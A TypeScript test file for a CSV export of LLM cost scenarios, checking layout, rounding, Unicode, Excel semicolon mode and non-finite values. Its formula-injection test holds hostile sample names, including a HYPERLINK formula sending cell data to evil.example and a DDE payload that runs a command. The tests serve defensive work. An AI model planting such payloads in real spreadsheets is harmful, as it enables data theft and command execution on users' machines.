import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, CSV_MONTE_CARLO_COLUMNS, resultToCsv } from './csv';
import { PLAIN_MONTH, resultOf, type MonthFigures } from './result-fixtures';

/** Parse our CSV back the way a spreadsheet import would (papaparse, RFC 4180), after checking and removing the BOM. */
function parseCsv(text: string, delimiter: ',' | ';' = ','): string[][] {
  expect(text.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(1), { delimiter, newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function rowObjects(text: string, delimiter: ',' | ';' = ','): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text, delimiter);
  return rows.map((row) => Object.fromEntries((header ?? []).map((column, i) => [column, row[i] ?? ''])));
}

const secondMonth: MonthFigures = { ...PLAIN_MONTH, integration: 0, platformFee: 99, output: 400.5 };

describe('resultToCsv layout (DESIGN.md §4)', () => {
  const csv = resultToCsv([{ name: 'Support bot', result: resultOf([PLAIN_MONTH, secondMonth]) }]);

  it('starts with a UTF-8 BOM, uses CRLF for every record (the last one too) and no bare LF', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(csv.split('\r\n')).toHaveLength(1 + 3 + 1); // header, 2 months, total, trailing empty
  });

  it('has exactly the listed columns in order, and no Monte Carlo columns without Monte Carlo', () => {
    expect(parseCsv(csv)[0]).toEqual([...CSV_COLUMNS]);
  });

  it('writes one row per month (1-based) and a total row, money to the cent, quantities unformatted', () => {
    const [first, second, total] = rowObjects(csv);
    expect(first).toMatchObject({
      scenario: 'Support bot',
      month: '1',
      requests: '1521875',
      input_tokens: '1826250000.5',
      output_tokens: '380468750',
      token_cost_usd: '420.63', // 100.004 + 20.5 + 300.125 = 420.629 → 420.63 (realtime tokens only)
      batch_cost_usd: '10.00',
      flat_rate_usd: '0.00',
      aggregator_fee_usd: '21.53',
      platform_fee_usd: '99.00',
      engineering_usd: '2640.00', // 2400 integration + 240 maintenance
      downtime_minutes: '43.2',
      downtime_cost_usd: '0.00',
      sla_credits_usd: '0.00',
      wasted_spend_usd: '1.23',
      failover_extra_cost_usd: '-12.35', // halves away from zero, sign kept
      tco_usd: '3191.16', // 420.629 + 10 + 21.53 + 99 + 2640 = 3191.159
      cumulative_tco_usd: '3191.16',
    });
    expect(second).toMatchObject({ month: '2', token_cost_usd: '521.00', engineering_usd: '240.00', tco_usd: '891.53' });
    // 100.004 + 20.5 + 400.5 = 521.004; + 10 + 21.53 + 99 + 240 = 891.534
    expect(second?.cumulative_tco_usd).toBe('4082.69'); // 3191.159 + 891.534 = 4082.693
    expect(total).toMatchObject({ month: 'total', requests: '3043750', engineering_usd: '2880.00', tco_usd: '4082.69', cumulative_tco_usd: '4082.69' });
  });

  it('keeps every numeric cell numeric when a spreadsheet reads it back (negative figures included)', () => {
    for (const row of rowObjects(csv)) {
      for (const column of CSV_COLUMNS.slice(2)) {
        expect(row[column], column).toMatch(/^-?\d+(\.\d+)?$/);
        expect(Number.isFinite(Number(row[column]))).toBe(true);
      }
    }
  });

  it('repeats the block per scenario in the order given', () => {
    const two = resultToCsv([
      { name: 'A', result: resultOf([PLAIN_MONTH]) },
      { name: 'B', result: resultOf([secondMonth, secondMonth]) },
    ]);
    expect(rowObjects(two).map((r) => `${r.scenario}:${r.month}`)).toEqual(['A:1', 'A:total', 'B:1', 'B:2', 'B:total']);
  });
});

describe('resultToCsv Monte Carlo columns', () => {
  const mc = { trials: 100, seed: 7, monthly: [{ p5: 1.004, p50: 2.005, p95: 3.999 }], total: { p5: 10, p50: 20.5, p95: 30.555 } };

  it('adds p5/p50/p95 when every scenario ran Monte Carlo', () => {
    const csv = resultToCsv([{ name: 'A', result: resultOf([PLAIN_MONTH], mc) }]);
    const [header] = parseCsv(csv);
    expect(header).toEqual([...CSV_COLUMNS, ...CSV_MONTE_CARLO_COLUMNS]);
    const [month, total] = rowObjects(csv);
    // 2.005 rounds up like a person (and Intl.NumberFormat) would, although the double is 2.00499999999999989…
    expect(month).toMatchObject({ tco_p5_usd: '1.00', tco_p50_usd: '2.01', tco_p95_usd: '4.00' });
    expect(total).toMatchObject({ tco_p5_usd: '10.00', tco_p50_usd: '20.50', tco_p95_usd: '30.56' });
  });

  it('leaves them out when any scenario lacks Monte Carlo', () => {
    const csv = resultToCsv([
      { name: 'A', result: resultOf([PLAIN_MONTH], mc) },
      { name: 'B', result: resultOf([PLAIN_MONTH]) },
    ]);
    expect(parseCsv(csv)[0]).toEqual([...CSV_COLUMNS]);
  });
});

describe('resultToCsv formula injection (OWASP)', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)', '+cmd|\' /C calc\'!A0', '-2+3', '\tcmd', '\rcmd', '\ncmd', '\0cmd', '=1;2'];

  it.each(hostile)('neutralises a scenario named %j in both variants', (name) => {
    for (const delimiter of [',', ';'] as const) {
      const rows = rowObjects(resultToCsv([{ name, result: resultOf([PLAIN_MONTH]) }], { delimiter }), delimiter);
      for (const row of rows) expect(row.scenario).toBe(`'${name}`);
    }
  });

  it('quotes a neutralised cell so the prefix and its content stay one cell', () => {
    const csv = resultToCsv([{ name: '=1,2', result: resultOf([PLAIN_MONTH]) }]);
    expect(csv).toContain(`\r\n"'=1,2",1,`);
  });

  it('leaves ordinary names untouched', () => {
    const rows = rowObjects(resultToCsv([{ name: 'Plan B — 2 providers', result: resultOf([PLAIN_MONTH]) }]));
    expect(rows[0]?.scenario).toBe('Plan B — 2 providers');
  });
});

describe('resultToCsv text handling', () => {
  it('keeps a Unicode name intact through the BOM and a parse', () => {
    const name = 'Übersetzung 日本語 🚀 "quoted", comma';
    const text = resultToCsv([{ name, result: resultOf([PLAIN_MONTH]) }]);
    const bytes = new TextEncoder().encode(text);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const decoded = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(rowObjects(decoded).map((r) => r.scenario)).toEqual([name, name]);
  });
});

describe('resultToCsv for Excel (semicolon)', () => {
  it('separates with ; and writes decimal commas, values unchanged', () => {
    const csv = resultToCsv([{ name: 'A, B', result: resultOf([PLAIN_MONTH]) }], { delimiter: ';' });
    const [first] = rowObjects(csv, ';');
    expect(first).toMatchObject({ scenario: 'A, B', token_cost_usd: '420,63', failover_extra_cost_usd: '-12,35', downtime_minutes: '43,2' });
    expect(csv.split('\r\n')[1]).toMatch(/^A, B;1;1521875;1826250000,5;/);
  });
});

describe('resultToCsv never writes NaN, Infinity or exponents', () => {
  it('rejects a non-finite figure, naming the scenario, month and column', () => {
    expect(() => resultToCsv([{ name: 'A', result: resultOf([{ ...PLAIN_MONTH, downtimeCost: Number.NaN }]) }])).toThrow(/A month 1: downtime_cost_usd is not a finite number/);
  });

  it('writes huge and tiny figures as plain decimals', () => {
    const huge: MonthFigures = { ...PLAIN_MONTH, inputTokens: 3e25, inputUncached: 1.5e22, wastedSpend: 1e-9 };
    const [first] = rowObjects(resultToCsv([{ name: 'A', result: resultOf([huge]) }]));
    expect(first?.input_tokens).toBe('30000000000000000000000000'); // 3e25 written out
    expect(first?.wasted_spend_usd).toBe('0.00');
    expect(Object.values(first ?? {}).join()).not.toMatch(/e[+-]?\d/i);
  });
});

describe('resultToCsv cost components (every part of TCO the screen shows)', () => {
  const withFailures: MonthFigures = { ...PLAIN_MONTH, failedRequestCost: 7.125, downtimeCost: 50, slaCredits: 3.5 };
  const csv = resultToCsv([{ name: 'A', result: resultOf([withFailures, PLAIN_MONTH]) }]);

  it('writes the failed-request cost, the engineering split and the realtime token split', () => {
    const [first, , total] = rowObjects(csv);
    expect(first).toMatchObject({
      failed_request_cost_usd: '7.13', // 7.125 halves away from zero
      integration_usd: '2400.00',
      maintenance_usd: '240.00',
      input_uncached_cost_usd: '100.00',
      input_cached_cost_usd: '20.50',
      output_cost_usd: '300.13',
      failed_requests: '0',
    });
    expect(total).toMatchObject({ failed_request_cost_usd: '7.13', integration_usd: '4800.00', maintenance_usd: '480.00' });
  });

  it('has components that add up to tco_usd (to the cent, up to rounding of each cell)', () => {
    for (const row of rowObjects(csv)) {
      const value = (column: string) => Number(row[column]);
      const sum =
        value('token_cost_usd') + value('batch_cost_usd') + value('flat_rate_usd') + value('aggregator_fee_usd') + value('platform_fee_usd') +
        value('engineering_usd') + value('downtime_cost_usd') + value('failed_request_cost_usd') - value('sla_credits_usd');
      expect(Math.abs(sum - value('tco_usd'))).toBeLessThanOrEqual(0.05);
      expect(value('integration_usd') + value('maintenance_usd')).toBeCloseTo(value('engineering_usd'), 2);
      expect(Math.abs(value('input_uncached_cost_usd') + value('input_cached_cost_usd') + value('output_cost_usd') - value('token_cost_usd'))).toBeLessThanOrEqual(0.02);
    }
  });

  it('keeps the original columns first, in their old positions', () => {
    expect(CSV_COLUMNS.slice(0, 18)).toEqual([
      'scenario', 'month', 'requests', 'input_tokens', 'output_tokens', 'token_cost_usd', 'batch_cost_usd', 'flat_rate_usd',
      'aggregator_fee_usd', 'platform_fee_usd', 'engineering_usd', 'downtime_minutes', 'downtime_cost_usd', 'sla_credits_usd',
      'wasted_spend_usd', 'failover_extra_cost_usd', 'tco_usd', 'cumulative_tco_usd',
    ]);
  });
});
